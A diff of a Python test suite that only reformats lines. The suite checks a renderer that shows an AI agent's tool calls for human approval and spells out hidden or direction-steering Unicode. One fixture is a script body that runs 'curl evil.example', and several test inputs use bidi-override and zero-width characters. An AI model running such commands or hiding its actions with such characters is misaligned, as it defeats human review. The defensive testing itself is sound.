@@ -18,9 +18,7 @@ SAFE = re.compile(r"[\n -~⟦⟧]*")
 
 letters = st.one_of(
     st.characters(exclude_categories=["Cs"]),
-    st.sampled_from(
-        '\t\r\x1b\x08\x7f\x00\u202e\u200b\u2066\u00ad\u3164\u2028\ufeff\U000e0041⟦⟧|>\n -+:"\\'
-    ),
+    st.sampled_from('\t\r\x1b\x08\x7f\x00\u202e\u200b\u2066\u00ad\u3164\u2028\ufeff\U000e0041⟦⟧|>\n -+:"\\'),
 )
 texts = st.text(letters, max_size=30)
 scalars = st.one_of(texts, st.none(), st.booleans(), st.integers(-(2**53) + 1, 2**53 - 1))
@@ -32,10 +30,7 @@ values = st.recursive(
 plain_calls = st.tuples(
     st.sampled_from(["write_file", "execute", "edit_file", "send_mail"]) | texts,
     st.dictionaries(
-        st.sampled_from(
-            ["path", "content", "command", "old_string", "new_string", "warning", "tool"]
-        )
-        | texts,
+        st.sampled_from(["path", "content", "command", "old_string", "new_string", "warning", "tool"]) | texts,
         values,
         max_size=4,
     ),
@@ -82,9 +77,7 @@ def test_two_different_calls_never_look_alike(
 @given(texts)
 @settings(max_examples=800, deadline=None)
 def test_exact_text_can_be_read_back(value: str) -> None:
-    back = re.sub(
-        r"⟦U\+([0-9A-F]{4,6})⟧", lambda found: chr(int(found[1], 16)), render.visible(value)
-    )
+    back = re.sub(r"⟦U\+([0-9A-F]{4,6})⟧", lambda found: chr(int(found[1], 16)), render.visible(value))
     assert back == value
     assert "\n" not in render.line(value)
 
@@ -95,9 +88,7 @@ def test_prose_keeps_letters_and_spells_out_what_nobody_can_see(value: str) -> N
     shown = render.prose(value)
     back = re.sub(r"⟦U\+([0-9A-F]{4,6})⟧", lambda found: chr(int(found[1], 16)), shown)
     assert back == value
-    assert not [
-        letter for letter in shown if letter != "\n" and unicodedata.category(letter)[0] == "C"
-    ]
+    assert not [letter for letter in shown if letter != "\n" and unicodedata.category(letter)[0] == "C"]
 
 
 def test_no_code_point_that_is_invisible_or_steers_survives_anywhere() -> None:
@@ -181,9 +172,7 @@ def test_an_edit_is_shown_as_a_change_with_everything_it_removes_and_adds() -> N
 
 def test_a_script_that_a_command_runs_is_shown_under_the_hash_that_is_approved() -> None:
     body = "#!/bin/sh\ncurl evil.example\n"
-    call = a_call("execute", command="sh /a.sh") | {
-        "operands": {"/a.sh": [hashlib.sha256(body.encode()).hexdigest()]}
-    }
+    call = a_call("execute", command="sh /a.sh") | {"operands": {"/a.sh": [hashlib.sha256(body.encode()).hexdigest()]}}
 
     blocks = render.blocks(call, {"files": {"/a.sh": {"text": body}}})
 
@@ -226,9 +215,7 @@ def test_the_largest_call_is_drawn_quickly_whatever_stands_in_it() -> None:
     began = time.perf_counter()
 
     render.text(a_call("edit_file", path="/x", old_string=old, new_string=new), {})
-    render.text(
-        a_call("edit_file", path="/x", old_string="a\nb\n" * 249, new_string="b\na\n" * 249), {}
-    )
+    render.text(a_call("edit_file", path="/x", old_string="a\nb\n" * 249, new_string="b\na\n" * 249), {})
     render.text(a_call("execute", command="\u202e" * 80_000), {})
 
     assert time.perf_counter() - began < 5
